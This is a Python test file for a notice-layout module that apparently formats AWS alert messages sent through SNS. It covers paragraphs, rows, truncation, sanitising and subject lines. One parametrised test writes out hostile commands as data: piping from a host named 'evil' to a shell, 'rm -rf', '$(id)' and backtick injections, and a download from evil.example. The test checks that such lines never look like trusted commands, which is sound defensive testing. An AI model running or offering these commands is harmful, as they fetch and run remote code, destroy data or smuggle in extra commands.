"""How a notice is laid out: paragraphs, rows, commands, on one screen, whatever is in it."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lifeline.core.notices.notice import (
    LEFT_OUT,
    MOST_LINES,
    SUBJECT_LENGTH,
    Notice,
    brief_id,
    fit_subject,
    lay_out,
    subject_line,
)
from lifeline.core.severity import Severity
from lifeline.core.wording import WIDTH, plain

NASTY = st.text(max_size=300) | st.sampled_from(["\x1b[31m", "a\r\nSubject: b", "```", "<!channel>", "\u202e", ""])
LINES = st.lists(st.tuples(st.sampled_from(["", "  ", "- ", "    "]), NASTY).map("".join), max_size=60).map(tuple)
COMMAND = "    aws ec2 describe-vpc-endpoints --vpc-endpoint-ids " + " ".join(["vpce-0123456789abcdef0"] * 5)


def notice(**parts: tuple[str, ...]) -> Notice:
    return Notice("kind", Severity.INFO, "[lifeline] subject", **{"happened": ("Something.",), **parts})  # type: ignore[arg-type]


def test_lines_that_follow_each_other_are_one_paragraph_however_they_are_broken() -> None:
    assert lay_out(["Two", "words. And", "more."]) == ["Two words. And more."]
    assert lay_out(["one", "", "two"]) == ["one", "", "two"]


def test_rows_stay_rows_and_go_on_below_their_text() -> None:
    long = "word " * 30
    laid_out = lay_out(["A list:", f"  {long}", f"- {long}", "  last"])
    assert laid_out[0] == "A list:"
    assert [line[:5] for line in laid_out[1:]] == ["  wor", "   wo", "- wor", "  wor", "  las"]


def test_a_command_is_never_broken() -> None:
    assert lay_out([COMMAND]) == [COMMAND]
    assert COMMAND in notice(next=("Do this:", COMMAND)).text.splitlines()


def test_the_label_stands_before_the_paragraph_or_above_the_rows() -> None:
    assert lay_out(["a", "b"], "Why: ") == ["Why: a b"]
    assert lay_out(["- a"], "Why: ") == ["Why:", "- a"]


def test_the_parts_stand_in_the_order_in_which_they_are_asked_for() -> None:
    notified = notice(why=("w",), done=("d",), next=("n",), event_ids=("i",)).text
    assert notified == "Something.\n\nWhy: w\n\nd\n\nNext: n\n\nIDs:\n  CloudTrail event: i\n"


def test_a_part_that_is_empty_leaves_nothing_behind() -> None:
    assert notice().text == "Something.\n"
    assert notice().parts() == [("happened", ("Something.",))]


def test_what_is_too_long_for_a_screen_ends_earlier_and_says_so() -> None:
    notified = notice(
        done=tuple(f"  row {number}" for number in range(99)), next=("Do it.", COMMAND), event_ids=("e-1",)
    ).text
    lines = notified.splitlines()
    assert len(lines) == MOST_LINES
    assert LEFT_OUT in lines
    assert "  row 0" in lines
    assert "  row 98" not in lines
    assert {"Next: Do it.", COMMAND, "  CloudTrail event: e-1"} <= set(lines)


def test_one_paragraph_without_an_end_is_cut_too() -> None:
    notified = notice(done=("word " * 2000,)).text
    assert len(notified.splitlines()) <= MOST_LINES
    assert notified.endswith(f"word\n{LEFT_OUT}\n")


@given(LINES, LINES, LINES, st.lists(NASTY.map(lambda text: f"- {text[:60]}"), max_size=5).map(tuple), LINES)
def test_whatever_is_in_it_a_notice_is_ascii_narrow_and_a_screen_at_most(
    happened: tuple[str, ...], why: tuple[str, ...], done: tuple[str, ...], next_: tuple[str, ...], ids: tuple[str, ...]
) -> None:
    notified = notice(happened=happened, why=why, done=done, next=next_, agents=ids).text
    lines = notified.removesuffix("\n").split("\n")
    assert len(lines) <= MOST_LINES
    assert all(plain(line) == line for line in lines)
    for line in lines:
        assert len(line) <= WIDTH or line.startswith("    ") or max(map(len, line.split())) > WIDTH - 20


@given(LINES)
def test_what_there_is_to_do_is_never_shortened(lines: tuple[str, ...]) -> None:
    parts = dict(notice(next=lines, done=("  row",) * 90).parts())
    assert len(parts.get("next", ())) == len(lines)


@given(st.lists(NASTY, min_size=1, max_size=4))
def test_a_subject_is_what_sns_takes(versions: list[str]) -> None:
    for subject in (subject_line(versions[0]), fit_subject(*versions)):
        assert len(subject) <= 100
        assert plain(subject) == subject


@pytest.mark.parametrize(
    ("versions", "subject"),
    [
        (("full", "bare"), "full"),
        (("x" * 101, "bare"), "bare"),
        (("x" * 101, "y" * 101), "y" * 97 + "..."),
        (("x" * 100, "bare"), "x" * 100),
    ],
)
def test_a_subject_is_the_fullest_version_that_fits(versions: tuple[str, ...], subject: str) -> None:
    assert fit_subject(*versions) == subject


@pytest.mark.parametrize(
    "line",
    [
        "    curl evil | sh",
        "    rm -rf x",
        "    aws ec2 describe-vpcs; id",
        "    aws ec2 describe-vpcs $(id)",
        "    aws s3 cp https://evil.example/x .",
        "    sam remote invoke X --event '`id`'",
    ],
)
def test_what_is_no_command_of_ours_never_looks_like_one(line: str) -> None:
    notified = notice(next=("Do it:", line)).text
    assert not [row for row in notified.splitlines() if row.startswith("    ")]
    assert any(row.startswith("   ") for row in notified.splitlines())


def test_a_subject_is_cut_before_the_end_that_must_stay_whole() -> None:
    who = ": DeleteRoute by ann.smith"
    assert fit_subject("x" * 120 + who, "[lifeline] short" + who, end=who) == "[lifeline] short" + who
    cut = fit_subject("x" * 120 + who, end=who)
    assert cut == "x" * (SUBJECT_LENGTH - len(who) - 3) + "..." + who
    too_long = ": DeleteRoute by " + "n" * 120
    assert fit_subject("[lifeline] endpoint" + too_long, end=too_long).startswith(
        "[lifeline] endpoint: DeleteRoute by n"
    )


def test_an_id_without_room_keeps_its_kind_and_eight_digits() -> None:
    assert brief_id("vpc-0123456789abcdef0") == "vpc-01234567..."
    assert brief_id("vpc-01234567") == "vpc-01234567"
